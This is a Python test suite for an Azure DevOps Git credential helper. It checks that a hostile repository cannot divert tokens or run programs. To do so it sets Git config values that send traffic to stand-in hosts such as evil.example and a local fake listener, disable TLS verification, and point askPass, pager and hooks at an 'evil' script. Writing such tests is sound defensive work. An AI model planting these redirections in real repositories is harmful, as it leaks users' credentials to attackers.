#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""A work tree that somebody else has filled: its settings, its programs and its files decide
neither where a token goes nor what is run.

What Git itself does for a repository's own settings is Git's: it asks the server that `insteadOf`
names, or the one behind the repository's proxy. So the helper is what is run here, in the tree, and
a listener is there for whoever is led astray.
"""

import contextlib
import shutil
import socket
import ssl
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from types import TracebackType
from typing import Self

import canary
import tap
from contoso import APP, contoso
from story import PROGRAM, Story, prepare

WRITE = ["vso.code_write"]
REQUEST = "protocol=https\nhost=dev.azure.com\npath=contoso/web/_git/app\n"
ELSEWHERE = "127.0.0.2"
CHALLENGE = (b"HTTP/1.1 401 Who\r\nWWW-Authenticate: Basic realm=\"x\"\r\n"
             b"Content-Length: 0\r\n\r\n")
PROGRAMS = ("git", "az", "pass", "gpg", "sh", "xdg-open", "gio", "secret-tool", "ask", PROGRAM)


class Listener:
    """A server at another address that takes whoever comes, by TLS or not, and keeps all it gets.

    Its certificate is for Azure DevOps' names, and of nobody who is trusted.
    """

    def __init__(self, folder: Path) -> None:
        self.certificate = folder / "certificate.pem"
        self.received: list[bytes] = []
        self._listeners: list[socket.socket] = []
        key = folder / "key.pem"
        subprocess.run(
            ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=x",
             "-addext", "subjectAltName=DNS:dev.azure.com,DNS:*.dev.azure.com,"
             "DNS:login.microsoftonline.com,DNS:app.vssps.visualstudio.com",
             "-keyout", key, "-out", self.certificate], check=True, capture_output=True)
        self._tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._tls.load_cert_chain(self.certificate, key)

    def __enter__(self) -> Self:
        for port in (443, 8080):
            listener = socket.create_server((ELSEWHERE, port))
            self._listeners.append(listener)
            threading.Thread(target=self._accept, args=(listener,), daemon=True).start()
        return self

    def __exit__(self, kind: type[BaseException] | None, value: BaseException | None,
                 trace: TracebackType | None) -> None:
        for listener in self._listeners:
            listener.shutdown(socket.SHUT_RDWR)
            listener.close()

    def _accept(self, listener: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while True:
                client, _ = listener.accept()
                threading.Thread(target=self._serve, args=(client,), daemon=True).start()

    def _serve(self, client: socket.socket) -> None:
        self.received.append(b"a connection\n")
        with contextlib.suppress(OSError), client:
            is_tls = client.getsockname()[1] == 443
            with self._tls.wrap_socket(client, server_side=True) if is_tls else client as stream:
                while block := stream.recv(65536):
                    self.received.append(block)
                    stream.sendall(CHALLENGE)


class Tree:
    """A story in a work tree that is hostile, and whoever waits elsewhere."""

    def __init__(self, story: Story, listener: Listener) -> None:
        self.story = story
        self.listener = listener
        self.folder = story.session.home / "app"
        self.ran = story.session.scratch / "ran"
        story.git("init", "--quiet", self.folder)
        story.git("remote", "add", "origin", APP, cwd=self.folder)

    def set(self, key: str, value: str, *, scope: str = "--local") -> None:
        self.story.git("config", scope, "--add", key, value, cwd=self.folder)

    def add_program(self, name: str) -> Path:
        """One that tells that it was run."""
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"#!/bin/bash\necho \"$0 $*\" >>{self.ran}\necho x\n", encoding="utf-8")
        path.chmod(0o755)
        return path

    def run_all(self, **env: str) -> None:
        """What the helper does for people and for Git, with tokens that it has to lose."""
        def run(*words: str, stdin: str = "") -> None:
            program = shutil.which(PROGRAM, path=self.story.session.environment()["PATH"])
            assert program
            self.story.run([program, *words], stdin=stdin, cwd=self.folder, env=env)

        story = self.story
        brought = story.azure.add_token("contoso", scopes=WRITE)
        run("login", "contoso", "--with-token", "--expires=20d", stdin=brought)
        for words in (["status"], ["audit"], ["check"], ["renew"], ["login"], ["configure"],
                      ["doctor"]):
            run(*words)
        run("get", stdin=REQUEST + "\n")
        story.azure.revoke(brought)
        run("erase", stdin=f"{REQUEST}username=u\npassword={brought}\n\n")
        run("login", "--entra=azure-cli", "contoso")
        run("renew", "contoso")
        run("get", stdin=REQUEST + "\n")
        run("logout", "--revoke", "contoso")

    def expect_nothing(self) -> None:
        tap.equal((self.listener.received, self.story.azure.misplaced()), ([], []))
        assert not self.ran.exists(), self.ran.read_text(encoding="utf-8")


@contextlib.contextmanager
def hostile_tree() -> Iterator[Tree]:
    with contoso() as story, Listener(story.session.scratch) as listener:
        yield Tree(story, listener)


# What a repository's own configuration says, each row by itself led astray if it were heard.


def proxy(tree: Tree, scope: str = "--local") -> None:
    for key in ("http.proxy", "http.https://dev.azure.com.proxy", "remote.origin.proxy"):
        tree.set(key, f"http://{ELSEWHERE}:8080", scope=scope)


def resolve(tree: Tree, scope: str = "--local") -> None:
    """Another server for our names, and no verification, or that of its own certificate."""
    for host in ("dev.azure.com", "vssps.dev.azure.com", "login.microsoftonline.com",
                 "app.vssps.visualstudio.com"):
        tree.set("http.curloptResolve", f"{host}:443:{ELSEWHERE}", scope=scope)
    tree.set("http.sslVerify", "false", scope=scope)
    tree.set("http.https://dev.azure.com.sslVerify", "false", scope=scope)
    tree.set("http.sslCAInfo", str(tree.listener.certificate), scope=scope)


def include(tree: Tree) -> None:
    """Settings of a file of the tree."""
    resolve(tree)
    (tree.folder / "more").write_bytes((tree.folder / ".git/config").read_bytes())
    (tree.folder / ".git/config").write_text(
        f"[include]\n\tpath = ../more\n[includeIf \"gitdir:{tree.folder}/\"]\n\tpath = ../more\n")


def servers(tree: Tree) -> None:
    """Helpers of the repository that admit a server, and settings that name another authority."""
    tree.set("credential.helper", f"azdo --server=https://{ELSEWHERE}")
    tree.set("credential.https://dev.azure.com.helper", f"azdo --server=https://{ELSEWHERE}")
    tree.set("url.https://evil.example/.insteadOf", "https://dev.azure.com/")
    tree.set("url.https://evil.example/.pushInsteadOf", "https://dev.azure.com/")
    tree.set("credential.azdoAuthority", f"https://{ELSEWHERE}")


def programs(tree: Tree) -> None:
    """Everything by which Git can be told to run something, and a hook of each name."""
    evil = tree.add_program("evil")
    for key in ("core.askPass", "core.sshCommand", "core.pager", "core.editor", "core.fsmonitor",
                "core.gitProxy", "credential.helper", "credential.https://dev.azure.com.helper",
                "alias.config", "alias.credential-azdo", "diff.external", "gpg.program",
                "web.browser", "browser.evil.cmd"):
        tree.set(key, f"!{evil}" if key.endswith("helper") or "alias" in key else str(evil))
    hooks = tree.folder / "hooks"
    for hook in ("pre-auto-gc", "post-checkout", "reference-transaction", "pre-push"):
        tree.add_program(f"hooks/{hook}")
    tree.set("core.hooksPath", str(hooks))


def stores(tree: Tree) -> None:
    """Another store, an application of somebody else, no validation."""
    for name, value in (("Store", "pass"), ("ClientId", "5e0fa5b4-57ae-4bd8-bd7f-7f0ff0d4a0f1"),
                        ("Validate", "never"), ("Scope", "vso.tokens"), ("Days", "365"),
                        ("SignIn", "browser")):
        tree.set(f"credential.azdo{name}", value)
        tree.set(f"credential.https://dev.azure.com.azdo{name}", value)


def settings_row(fill: Callable[[Tree], None]) -> None:
    with hostile_tree() as tree:
        fill(tree)
        tree.run_all()
        tree.expect_nothing()


SETTINGS: dict[str, Callable[[Tree], None]] = {
    "a proxy": proxy, "other servers for our names": resolve, "files of the tree": include,
    "more servers": servers, "programs": programs, "stores and sign-ins": stores,
}


@tap.test
def whoever_is_led_there_is_seen_there() -> None:
    with hostile_tree() as tree:
        proxy(tree, "--global")
        tree.story.run([PROGRAM, "login", "--with-token", "contoso"], cwd=tree.folder,
                       stdin=tree.story.azure.add_token("contoso", scopes=WRITE))
        assert b"CONNECT vssps.dev.azure.com:443" in b"".join(tree.listener.received)
    with hostile_tree() as tree:
        tree.story.approve(APP, tree.story.azure.add_token("contoso", scopes=WRITE))
        resolve(tree)
        tree.story.try_git("fetch", cwd=tree.folder)  # by Git's own leave
        assert canary.sings(b"".join(tree.listener.received)), tree.listener.received


@tap.test
def a_repository_that_sends_git_elsewhere_gets_no_token_for_it() -> None:
    with hostile_tree() as tree:
        tree.story.approve(APP, tree.story.azure.add_token("contoso", scopes=WRITE))
        servers(tree)
        assert tree.story.try_git("fetch", cwd=tree.folder).returncode != 0
        assert tree.story.azure.requests()[-1].host == "evil.example"
        tap.equal(tree.story.azure.misplaced(), [])


# Programs and files that lie in the tree


PATHS = [("a dot", ".", "./ask"), ("an empty entry", "", "ask"),
         ("a relative folder", "bin", "bin/ask")]


def path_row(path: str, askpass: str) -> None:
    with hostile_tree() as tree:
        for name in PROGRAMS:
            tree.add_program(name)
            tree.add_program(f"bin/{name}")
        usual = tree.story.session.environment(tree.story.env)["PATH"]
        tree.run_all(PATH=f"{path}:{usual}", GIT_ASKPASS=askpass, BROWSER="./xdg-open",
                     DISPLAY=":0")
        tree.expect_nothing()


@tap.test
def files_of_the_tree_are_not_those_of_the_user() -> None:
    with hostile_tree() as tree:
        evil = f"http://{ELSEWHERE}:8080"
        for name, text in {
                ".netrc": "machine dev.azure.com login x password y\n",
                ".gitconfig": f"[http]\n\tproxy = {evil}\n",
                ".curlrc": f"proxy = {evil}\ninsecure\n",
                ".config/git/config": f"[http]\n\tproxy = {evil}\n",
                ".password-store/.gpg-id": "evil@example.com\n",
                ".azure/azureProfile.json": "{}",
                ".git/credential-cache": "", "openssl.cnf": "[default]\n"}.items():
            (tree.folder / name).parent.mkdir(parents=True, exist_ok=True)
            (tree.folder / name).write_text(text, encoding="utf-8")
        tree.run_all()
        tree.expect_nothing()


@tap.test
def state_is_written_through_no_link() -> None:
    """Where a folder of ours is a link to somewhere else, or a file in it."""
    with hostile_tree() as tree:
        target = tree.folder / "target"
        target.mkdir()
        for variable in ("XDG_RUNTIME_DIR", "XDG_STATE_HOME"):
            folder = Path(tree.story.session.environment()[variable])
            (folder / "git-credential-azdo").symlink_to(target)
        tree.run_all(AZDO_TRACE=str(tree.folder / "trace"))
        tap.equal(list(target.iterdir()), [])


def main() -> int:
    prepare()
    for name, fill in SETTINGS.items():
        tap.add(f"{name} in a repository's settings lead no token elsewhere",
                partial(settings_row, fill))
    for name, path, askpass in PATHS:
        tap.add(f"{name} in PATH runs nothing of the tree", partial(path_row, path, askpass))
    return tap.main()


if __name__ == "__main__":
    sys.exit(main())
